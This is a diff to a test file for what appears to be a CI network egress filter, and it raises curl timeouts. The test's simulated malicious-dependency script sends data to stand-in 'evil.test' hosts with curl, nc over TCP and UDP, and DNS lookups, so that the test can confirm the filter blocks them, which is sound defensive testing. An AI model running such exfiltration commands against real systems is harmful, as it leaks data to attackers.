@@ -3,15 +3,15 @@ import { asked, type JobResult, reached, runJob, transcript, WORLD } from '../ru
 
 /** What a dependency with bad intentions tries first: by name, by address, raw, over UDP, in DNS. */
 const EXFILTRATION = `set +e
-curl -sS --max-time 5 'https://evil.test/steal?data=hunter2'
-curl -sSk --max-time 5 https://${WORLD.evil}/steal
-curl -sSk --max-time 5 --resolve ok.test:443:${WORLD.evil} https://ok.test/led-astray
+curl -sS --max-time 60 'https://evil.test/steal?data=hunter2'
+curl -sSk --max-time 60 https://${WORLD.evil}/steal
+curl -sSk --max-time 60 --resolve ok.test:443:${WORLD.evil} https://ok.test/led-astray
 echo data | timeout 3 nc -w1 ${WORLD.evil} 9999
 echo data | timeout 3 nc -u -w1 ${WORLD.evil} 9999
 dig +time=1 +tries=1 hunter2.evil.test @${WORLD.evil}
 getent ahosts hunter3.evil.test
 ping -c1 -W1 ${WORLD.evil}
-curl -sS --max-time 5 'https://evil.test/again'
+curl -sS --max-time 60 'https://evil.test/again'
 true`;
 
 describe('a job in enforce mode', () => {
@@ -22,7 +22,7 @@ describe('a job in enforce mode', () => {
       steps: [
         {
           name: 'allowed',
-          run: 'curl -sS --max-time 10 https://ok.test/hello && env -u NODE_USE_SYSTEM_CA node -e \'fetch("https://ok.test/node").then((r) => r.text()).then(console.log)\'',
+          run: 'curl -sS --max-time 60 https://ok.test/hello && env -u NODE_USE_SYSTEM_CA node -e \'fetch("https://ok.test/node").then((r) => r.text()).then(console.log)\'',
         },
         { name: 'exfiltration', run: EXFILTRATION },
         { name: 'outputs', run: 'echo "$SSL_CERT_FILE"; ls -ld /var/log/egress-filter /var/log/egress-filter/*' },
@@ -93,7 +93,7 @@ describe('a job in enforce mode', () => {
 });
 
 describe('modes', () => {
-  const evil = { name: 'evil', run: 'curl -sS --max-time 10 https://evil.test/try || true; getent ahosts other.test || true' };
+  const evil = { name: 'evil', run: 'curl -sS --max-time 60 https://evil.test/try || true; getent ahosts other.test || true' };
 
   test('audit: everything passes, and what the policy would deny is told', async () => {
     const job = await runJob({ action: { with: { policy: 'ok.test', audit: 'true' } }, steps: [evil] });
@@ -117,7 +117,7 @@ describe('modes', () => {
   });
 
   test('no denial: nothing to fail for, no artifact unless asked for', async () => {
-    const steps = [{ name: 'fine', run: 'curl -sS --max-time 10 https://ok.test/' }];
+    const steps = [{ name: 'fine', run: 'curl -sS --max-time 60 https://ok.test/' }];
     const quiet = await runJob({ action: { with: { policy: 'ok.test', 'on-deny': 'fail-job' } }, steps });
     expect(quiet.conclusion, transcript(quiet)).toBe('success');
     expect(quiet.artifacts).toEqual([]);
@@ -128,7 +128,7 @@ describe('modes', () => {
   test('default: allow lets everything pass that no ! rule names', async () => {
     const job = await runJob({
       action: { with: { policy: '!evil.test', default: 'allow' } },
-      steps: [{ name: 'other', run: 'curl -sS --max-time 10 https://other.test/' }, evil],
+      steps: [{ name: 'other', run: 'curl -sS --max-time 60 https://other.test/' }, evil],
     });
     expect(job.step('other').log).toMatch(/^hello from other\.test/);
     expect(reached(job, WORLD.evil)).toEqual([]);
